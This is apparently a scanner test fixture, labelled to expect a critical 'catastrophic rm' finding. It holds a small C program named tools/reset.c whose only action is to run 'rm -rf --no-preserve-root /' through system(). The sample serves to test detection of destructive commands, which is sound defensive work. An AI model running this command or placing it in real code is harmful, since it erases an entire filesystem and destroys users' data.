# expect: shell.rm_catastrophic critical
# path: tools/reset.c
#include <stdlib.h>
static const char *wipe = "rm -rf --no-preserve-root /";
int main(void) { return system(wipe); }
